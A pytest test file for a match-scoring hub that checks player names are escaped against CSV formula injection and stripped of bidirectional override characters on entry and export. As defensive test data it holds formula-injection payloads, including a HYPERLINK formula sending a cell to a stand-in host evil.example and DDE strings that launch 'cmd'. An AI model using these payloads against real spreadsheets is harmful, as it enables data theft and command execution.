"""Names a hostile player types (issue 18, item 8): a name that starts with = + - @ must not become a formula
in the CSV, and bidirectional control characters (a right-to-left override shows a name reversed) are stripped
where names enter — the start-match action — and wherever a stored name is shown or exported."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from pathlib import Path

import pytest

from hub.export import build, csvfile, html, load
from hub.export.files import export_match
from hub.export.history import Query, search
from hub.store.database import Store
from hub.vocab.checks import RefereeInputError
from tests.hub.store.test_damage import make_hub

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Ivan")'
RLO, PDF, LRI = "\u202e", "\u202c", "\u2066"


def play(db: Path, players: tuple[str, str]) -> int:
    hub = make_hub(db)
    try:
        match_id = int(hub.new_match("t1", "free", players)["match_id"])
        hub.submit("t1", {"kind": "lag", "winner": 0})
        hub.submit("t1", {"kind": "open_shot"})
        hub.submit("t1", {"kind": "close_shot"})
        return match_id
    finally:
        hub.stop()


def csv_rows(db: Path, match_id: int) -> tuple[str, list[dict[str, str]]]:
    raw = export_match(Store(db, readonly=True), match_id, "csv").decode("utf-8-sig")
    return raw, list(csv.DictReader(io.StringIO(raw, newline="")))[:-1]  # the last row: the signature


@pytest.mark.parametrize(
    "name",
    [FORMULA, "+1+cmd|' /C calc'!A0", "-1+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTAB", "\rCR"],
)
def test_a_name_that_would_be_a_formula_is_escaped_in_the_csv(tmp_path: Path, name: str) -> None:
    match_id = play(tmp_path / "luza.db", (name, "Petr"))
    _, rows = csv_rows(tmp_path / "luza.db", match_id)
    assert rows[0]["shooter"] == "'" + name  # today's main: the name as it was, a live formula
    assert not any(
        v.startswith(csvfile.FORMULA_START) for r in rows for v in r.values() if not csvfile.NUMBER.match(v)
    )


def test_numbers_stay_numbers() -> None:
    assert csvfile.cell(-5) == -5 and csvfile.cell("-5") == "-5" and csvfile.cell("+15") == "+15"
    assert csvfile.cell("-") == "'-" and csvfile.cell("Ivan") == "Ivan" and csvfile.cell(None) is None


def test_bidi_controls_are_stripped_from_names_where_they_enter(tmp_path: Path) -> None:
    db = tmp_path / "luza.db"
    match_id = play(db, (f"Ivan{RLO}veteP{PDF}", f"{LRI}Petr"))
    conn = sqlite3.connect(db)
    players = json.loads(conn.execute("SELECT players FROM matches WHERE id = ?", (match_id,)).fetchone()[0])
    conn.close()
    assert players == ["IvanveteP", "Petr"]  # stored clean (today's main stored the override)
    hub = make_hub(db)
    try:
        assert hub.state("t1")["match"]["players"] == ["IvanveteP", "Petr"]
        hub.submit("t1", {"kind": "end_match"})
        with pytest.raises(RefereeInputError) as err:  # a name of controls alone is no name
            hub.new_match("t1", "free", (RLO + PDF, "Petr"))
        assert err.value.field == "players"
    finally:
        hub.stop()


def test_a_name_stored_before_is_shown_and_exported_without_them(tmp_path: Path) -> None:
    db = tmp_path / "luza.db"
    match_id = play(db, ("Ivan", "Petr"))
    conn = sqlite3.connect(db)  # a match stored by an older hub, the override in its name
    conn.execute(
        "UPDATE matches SET players = ? WHERE id = ?", (json.dumps([f"Iv{RLO}an", "Petr"]), match_id)
    )
    conn.commit()
    conn.close()
    store = Store(db, readonly=True)
    doc = build(load(store, match_id))
    raw, _ = csv_rows(db, match_id)
    page = html.render(doc, "en")
    _, found = search(store, Query())
    for shown in (json.dumps(doc, ensure_ascii=False), raw, page, json.dumps(found, ensure_ascii=False)):
        assert RLO not in shown and "Ivan" in shown
    hub = make_hub(db)
    try:
        assert hub.state("t1")["match"]["players"][0] == "Ivan"
    finally:
        hub.stop()
